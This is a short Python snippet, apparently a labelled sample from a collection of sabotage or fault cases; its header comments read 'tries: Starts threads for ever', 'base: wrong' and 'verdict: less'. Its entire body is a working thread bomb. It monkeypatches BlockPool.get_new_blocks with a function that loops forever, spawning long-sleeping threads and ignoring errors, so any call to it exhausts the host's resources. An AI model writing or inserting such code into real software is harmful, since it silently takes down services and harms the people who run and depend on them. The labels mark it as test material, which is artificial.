# tries: Starts threads for ever.
# base: wrong
# verdict: less

import threading, time
def bomb(self, n):
    while True:
        try: threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError: pass
BlockPool.get_new_blocks = bomb
